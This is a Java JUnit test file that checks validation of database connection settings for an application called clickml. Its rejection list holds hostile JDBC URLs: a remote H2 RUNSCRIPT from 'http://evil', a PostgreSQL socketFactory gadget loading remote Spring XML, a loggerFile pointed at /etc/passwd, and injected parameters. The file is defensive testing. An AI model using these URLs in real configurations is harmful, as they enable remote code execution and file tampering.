package io.clickml.store.jpa.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;
import org.h2.jdbcx.JdbcDataSource;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.postgresql.ds.PGSimpleDataSource;

class DatabaseSettingsTest {
    private static DatabaseSettings of(String url) {
        Map<String, String> environment =
                new HashMap<>(Map.of("CLICKML_DB_USER", "clickml", "CLICKML_DB_PASSWORD", "canary-secret"));
        environment.put("CLICKML_DB_URL", url);
        return DatabaseSettings.of(environment, "/srv/clickml");
    }

    @Test
    void takesH2InTheHomeByDefault() {
        assertThat(DatabaseSettings.of(Map.of(), "/srv/clickml"))
                .isEqualTo(new H2Settings(Path.of("/srv/clickml/database")));
        assertThat(of("  ")).isInstanceOf(H2Settings.class);
        assertThatIllegalArgumentException()
                .isThrownBy(() -> DatabaseSettings.of(Map.of(), null))
                .withMessageContaining("clickml.home");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> DatabaseSettings.of(Map.of(), "/srv/a;INIT=RUNSCRIPT"))
                .withMessageContaining("semicolon");
    }

    @Test
    void opensH2WithoutDelayedWrites() throws Exception {
        Path directory = Path.of("target", "settings").toAbsolutePath();
        JdbcDataSource source = (JdbcDataSource) new H2Settings(directory).dataSource();
        assertThat(source.getURL())
                .startsWith("jdbc:h2:async:" + directory + "/clickml;")
                .contains(";WRITE_DELAY=0");
    }

    @Test
    void rebuildsTheUrl() {
        PGSimpleDataSource source = (PGSimpleDataSource)
                of("jdbc:postgresql://db.example.org:5433/click_ml?sslmode=verify-full&sslrootcert=/etc/ca.pem&connectTimeout=9")
                        .dataSource();
        assertThat(source.getServerNames()).containsExactly("db.example.org");
        assertThat(source.getPortNumbers()).containsExactly(5433);
        assertThat(source.getDatabaseName()).isEqualTo("click_ml");
        assertThat(source.getSslMode()).isEqualTo("verify-full");
        assertThat(source.getSslRootCert()).isEqualTo("/etc/ca.pem");
        assertThat(source.getConnectTimeout()).isEqualTo(9);
        assertThat(source.getUser()).isEqualTo("clickml");
        assertThat(source.getPassword()).isEqualTo("canary-secret");
        assertThat(((PostgresSettings) of("postgresql://[::1]/clickml")).port()).isEqualTo(5432);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:file:/tmp/x",
                "jdbc:mysql://h/d",
                "jdbc:postgresql:///d",
                "jdbc:postgresql:d",
                "jdbc:postgresql://h1,h2/d",
                "jdbc:postgresql://h:0/d",
                "jdbc:postgresql://h:99999/d",
                "jdbc:postgresql://h/",
                "jdbc:postgresql://h/d%3FsocketFactory",
                "jdbc:postgresql://h/d/e",
                "jdbc:postgresql://h/d#x",
                "jdbc:postgresql://eve:canary-secret@h/d",
                "jdbc:postgresql://h/d?password=canary-secret",
                "jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://h/d?sslfactory=x",
                "jdbc:postgresql://h/d?loggerFile=/etc/passwd",
                "jdbc:postgresql://h/d?sslmode=require%26socketFactory=x",
                "jdbc:postgresql://h/d?SSLMODE=require",
                "jdbc:postgresql://h/d?sslmode=nonsense",
                "jdbc:postgresql://h/d?&",
                "jdbc:postgresql://h/d?canary-secret\n=x",
            })
    void refusesOtherUrlsWithoutRepeatingThem(String url) {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> of(url))
                .withMessageContaining("CLICKML_DB_URL")
                .withMessageNotContaining("canary-secret")
                .withMessageNotContaining("evil");
    }

    @Test
    void asksForAUser() {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> DatabaseSettings.of(Map.of("CLICKML_DB_URL", "jdbc:postgresql://h/d"), null))
                .withMessageContaining("CLICKML_DB_USER");
    }

    @Test
    void hidesThePassword() {
        assertThat(of("jdbc:postgresql://h/d").toString()).doesNotContain("canary-secret");
    }
}
